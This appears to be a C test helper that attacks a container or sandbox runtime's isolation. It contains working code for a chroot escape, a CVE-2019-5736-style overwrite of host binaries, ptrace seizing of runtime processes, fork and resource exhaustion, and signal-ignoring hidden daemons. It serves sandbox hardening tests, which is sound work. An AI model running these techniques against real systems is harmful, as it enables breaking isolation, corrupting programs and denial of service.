// SPDX-License-Identifier: MIT
/*
 * intruder - attacks on the box's wall that take more than one call
 *
 *     intruder door           asks the doorman for the host's root directory
 *     intruder escape MARKER  looks for MARKER by the ways out of a chroot
 *     intruder fds            lists its descriptors above 2
 *     intruder flood          random bytes to all files that it can write to
 *     intruder forks          forks until the kernel refuses, prints the number
 *     intruder hide           leaves three layers of daemons behind
 *     intruder ipc KEY        looks for memory and a queue of that number
 *     intruder ipc-make KEY   makes them
 *     intruder overwrite SEC  writes to each program that is not the box's
 *     intruder seize SEC [PID]  traces or looks into a stage, or that one
 *     intruder swap A B SEC   exchanges two names, all the time
 *     intruder take KIND...   takes all inotify instances, timers or queues,
 * says how many, and waits for the end of its input
 *
 * SEC: at most so long; TERM ends it earlier.  An attack prints its name and
 * "ok" when it has succeeded, else "failed". Static, as it runs in any root
 * directory.
 */
#include "stage/door.h"

#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/random.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define COUNT(a) (sizeof(a) / sizeof(*(a)))
#define MAX_FD 1024

static int
verdict(const char *attack, bool success)
{
	printf("%s %s\n", attack, success ? "ok" : "failed");
	return 0;
}

static volatile sig_atomic_t ended;

static void
stop(int sig)
{
	ended = sig;
}

static bool
until(const char *seconds)
{
	static struct timespec end;
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	if (end.tv_sec == 0) {
		end = now;
		end.tv_sec += atoi(seconds);
		signal(SIGTERM, stop);
	}
	return !ended && now.tv_sec < end.tv_sec;
}

static int
list_fds(void)
{
	struct stat st;

	for (int fd = 3; fd < MAX_FD; fd++)
		if (fstat(fd, &st) == 0)
			printf("%d ", fd);
	putchar('\n');
	return 0;
}

/* A request of the box's own stages, sent by foreign code: a file of the
 * host's, opened with root's rights. */
static bool
ask(int fd)
{
	struct door_request req = {
	    .version = DOOR_VERSION, .op = DOOR_FILE, .path = "/"};
	struct door_reply rep;

	if (send(fd, &req, sizeof(req), MSG_NOSIGNAL) != sizeof(req))
		return false;
	return recv(fd, &rep, sizeof(rep), 0) == sizeof(rep) && rep.err == 0;
}

static int
try_door(void)
{
	bool reached = false;

	for (int fd = 3; fd < MAX_FD; fd++)
		reached |= ask(fd);
	return verdict("door", reached);
}

/* Each name of /proc/net/unix that begins with "@". */
static void
flood_abstract(const char *junk, size_t len)
{
	FILE *f = fopen("/proc/net/unix", "re");
	char line[512], *name;

	while (f && fgets(line, sizeof(line), f)) {
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		const int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);

		if ((name = strchr(line, '@'))) {
			name[strcspn(name, "\n")] = '\0';
			strncpy(a.sun_path + 1, name + 1, 100);
			if (connect(s, (void *)&a,
				(socklen_t)(2 + strlen(name))) == 0)
				send(s, junk, len, MSG_NOSIGNAL);
		}
		close(s);
	}
	if (f)
		fclose(f);
}

static int
flood(void)
{
	static char junk[sizeof(struct door_request)];

	for (int i = 0; i < 100; i++) {
		const size_t len = i % 2 ? sizeof(junk) : (size_t)i;

		if (getrandom(junk, sizeof(junk), 0) < 0)
			err(1, "getrandom");
		for (int fd = 3; fd < MAX_FD; fd++)
			send(fd, junk, len, MSG_NOSIGNAL | MSG_DONTWAIT);
		flood_abstract(junk, len);
	}
	return 0;
}

static bool
sees(const char *marker)
{
	static const char *const from[] = {"", "/..", "/proc/1/root/..",
	    "/proc/1/cwd/..", "/proc/self/cwd/..", "/proc/self/root/.."};
	char path[PATH_MAX];

	for (size_t i = 0; i < COUNT(from); i++) {
		snprintf(path, sizeof(path), "%s%s", from[i], marker);
		if (access(path, F_OK) == 0)
			return true;
	}
	return false;
}

/* A directory that is open stays outside of a chroot into another one. */
static int
escape(const char *marker)
{
	const int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	bool out = sees(marker);

	mkdir("/jail", 0755);
	if (chroot("/jail") == 0 && fchdir(top) == 0) {
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") == 0)
			out |= sees(marker);
	}
	return verdict("escape", out);
}

/* Children that wait, until there can be no more. */
static int
count_forks(void)
{
	int n = 0;
	pid_t pid;

	while (n < 200 && (pid = fork()) > 0)
		n++;
	if (n < 200 && pid == 0)
		for (;;)
			pause();
	printf("forks %d\n", n);
	return 0;
}

static int
hide(void)
{
	for (int layer = 0; layer < 3; layer++) {
		if (fork() == 0) {
			setsid();
			continue;
		}
		if (layer == 0)
			return 0;
		break;
	}
	for (int fd = 0; fd < 3; fd++)
		close(fd);
	for (int sig = 1; sig < NSIG; sig++)
		signal(sig, SIG_IGN);
	for (;;)
		pause();
}

/* EACCES: it exists. */
static int
ipc(const char *key, int flags)
{
	char name[64];
	bool found;

	snprintf(name, sizeof(name), "/box-%s", key);
	found = shmget(atoi(key), 1, flags | 0666) >= 0 || errno == EACCES;
	found |=
	    mq_open(name, O_RDONLY | (flags ? O_CREAT : 0), 0666, NULL) >= 0 ||
	    errno == EACCES;
	return verdict(flags ? "ipc-make" : "ipc", found);
}

/* Calls FN with each process but ourselves until it returns true. */
static bool
each_process(bool (*fn)(int proc, pid_t pid))
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	bool done = false;

	while (d && !done && (e = readdir(d))) {
		const pid_t pid = atoi(e->d_name);

		if (pid > 0 && pid != getpid() && pid != getppid())
			done = fn(dirfd(d), pid);
	}
	if (d)
		closedir(d);
	return done;
}

/* The programs that the test put there: this one, and busybox. */
static bool
is_of_the_box(const struct stat *st)
{
	static const char *const own[] = {"/proc/self/exe", "/bin/busybox"};
	struct stat o;

	for (size_t i = 0; i < COUNT(own); i++)
		if (stat(own[i], &o) == 0 && o.st_ino == st->st_ino &&
		    o.st_dev == st->st_dev)
			return true;
	return false;
}

/* CVE-2019-5736: a program that was opened while it ran can be opened again for
 * writing once it has ended. */
static int held[16];
static unsigned n_held;

static bool
hold(int proc, pid_t pid)
{
	char path[32];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "%d/exe", pid);
	fd = openat(proc, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (n_held < COUNT(held) && fstat(fd, &st) == 0 && !is_of_the_box(&st))
		held[n_held++] = fd;
	else
		close(fd);
	return false;
}

static int
overwrite(const char *seconds)
{
	char path[32];
	int fd;

	while (until(seconds)) {
		each_process(hold);
		for (unsigned i = 0; i < n_held; i++) {
			snprintf(
			    path, sizeof(path), "/proc/self/fd/%d", held[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 && write(fd, "#!/intruder\n", 12) == 12)
				return verdict("overwrite", true);
		}
	}
	return verdict("overwrite", false);
}

/* Whether PID is still a stage: the exec of PROG changes its name. */
static bool
is_stage(int proc, pid_t pid)
{
	static const char *const stages[] = {
	    "ns-spawn\n", "ns-enter\n", "rootfs-enter\n"};
	char path[32], name[32] = "";
	int fd;

	snprintf(path, sizeof(path), "%d/comm", pid);
	fd = openat(proc, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (read(fd, name, sizeof(name) - 1) < 0)
		name[0] = '\0';
	close(fd);
	for (size_t i = 0; i < COUNT(stages); i++)
		if (strcmp(name, stages[i]) == 0)
			return true;
	return false;
}

/* The kernel follows these links only in a process that we may trace. */
static bool
look_into(int proc, pid_t pid)
{
	static const struct {
		const char *name;
		int flags;
	} parts[] = {{"fd/0", O_PATH}, {"root", O_PATH}, {"cwd", O_PATH},
	    {"environ", O_RDONLY}, {"mem", O_RDWR}};
	char path[32];
	int fd;

	for (size_t i = 0; i < COUNT(parts); i++) {
		snprintf(path, sizeof(path), "%d/%s", pid, parts[i].name);
		fd = openat(proc, path, parts[i].flags | O_CLOEXEC);
		if (fd < 0)
			continue;
		close(fd);
		if (is_stage(proc, pid))
			return true;
	}
	return false;
}

static bool
trace(int proc, pid_t pid)
{
	bool stage;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return false;
	stage = is_stage(proc, pid);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 &&
	    waitpid(pid, NULL, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, 0, 0);
	return stage;
}

static bool
take(int proc, pid_t pid)
{
	return is_stage(proc, pid) &&
	       (look_into(proc, pid) || trace(proc, pid));
}

static int
seize(const char *seconds, const char *pid)
{
	const int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	bool taken = false;

	while (!taken && until(seconds))
		taken = pid ? take(proc, atoi(pid)) : each_process(take);
	return verdict("seize", taken);
}

static int
swap(const char *a, const char *b, const char *seconds)
{
	while (until(seconds))
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			err(1, "exchange %s and %s", a, b);
	return 0;
}

static bool
take_inotify(int n)
{
	(void)n;
	return inotify_init1(IN_CLOEXEC) >= 0;
}

static bool
take_timers(int n)
{
	timer_t timer;

	(void)n;
	return timer_create(CLOCK_MONOTONIC, NULL, &timer) == 0;
}

static bool
take_queues(int n)
{
	char name[40];
	mqd_t queue;

	snprintf(name, sizeof(name), "/taken-%d-%d", getpid(), n);
	queue = mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, NULL);
	if (queue == (mqd_t)-1)
		return false;
	mq_unlink(name);
	return true;
}

static int
take_all(char *kinds[])
{
	static const struct {
		const char *name;
		bool (*take)(int n);
	} all[] = {{"inotify", take_inotify}, {"timers", take_timers},
	    {"queues", take_queues}};
	char c;

	for (; *kinds; kinds++)
		for (size_t i = 0; i < COUNT(all); i++) {
			int n = 0;

			if (strcmp(*kinds, all[i].name) != 0)
				continue;
			while (all[i].take(n))
				n++;
			printf("%s %d\n", *kinds, n);
		}
	return read(0, &c, 1) < 0;
}

int
main(int argc, char *argv[])
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, BUFSIZ);
	if (argc == 2 && strcmp(what, "door") == 0)
		return try_door();
	if (argc == 3 && strcmp(what, "escape") == 0)
		return escape(argv[2]);
	if (argc == 2 && strcmp(what, "fds") == 0)
		return list_fds();
	if (argc == 2 && strcmp(what, "flood") == 0)
		return flood();
	if (argc == 2 && strcmp(what, "forks") == 0)
		return count_forks();
	if (argc == 2 && strcmp(what, "hide") == 0)
		return hide();
	if (argc == 3 && strcmp(what, "ipc") == 0)
		return ipc(argv[2], 0);
	if (argc == 3 && strcmp(what, "ipc-make") == 0)
		return ipc(argv[2], IPC_CREAT);
	if (argc == 3 && strcmp(what, "overwrite") == 0)
		return overwrite(argv[2]);
	if ((argc == 3 || argc == 4) && strcmp(what, "seize") == 0)
		return seize(argv[2], argv[3]);
	if (argc == 5 && strcmp(what, "swap") == 0)
		return swap(argv[2], argv[3], argv[4]);
	if (argc > 2 && strcmp(what, "take") == 0)
		return take_all(argv + 2);
	errx(1, "usage: the comment at the top of intruder.c");
}
